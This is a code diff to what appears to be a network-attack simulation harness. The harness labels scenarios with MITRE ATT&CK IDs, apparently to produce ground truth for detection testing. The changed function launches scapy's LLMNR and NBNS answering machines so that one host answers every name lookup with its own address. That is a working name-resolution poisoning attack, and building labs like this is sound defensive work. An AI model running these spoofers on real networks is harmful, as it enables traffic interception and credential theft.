@@ -38,10 +38,9 @@ def ettercap(stage: Stage) -> None:
 def names(stage: Stage) -> None:
     """Whoever asks for a name that is nobody's gets the liar's address."""
     liar, victim = stage[_LIAR.name], stage[_VICTIM.name]
-    for machine in ("llmnr_am", "nbns_am"):
-        call = f"from scapy.all import *; load_layer('llmnr'); {machine}(iface='eth0'"
-        more = f", jokerIP='{_LIAR.ip}')()" if machine == "llmnr_am" else f", ip='{_LIAR.ip}')()"
-        liar.start(sys.executable, "-c", call + more)
+    for answering, option in (("LLMNR_am", "joker"), ("NBNS_am", "ip")):
+        words = f"{answering}(iface='eth0', {option}='{_LIAR.ip}')()"
+        liar.start(sys.executable, "-c", f"from scapy.all import *; {words}")
     time.sleep(4)
     truth = Truth("somebody answers whatever name is asked for (LLMNR, NBNS)", ("T1557.001",),
                   _LIAR.ip, (), (SPAN,), (_LIAR.mac,))  # fmt: skip
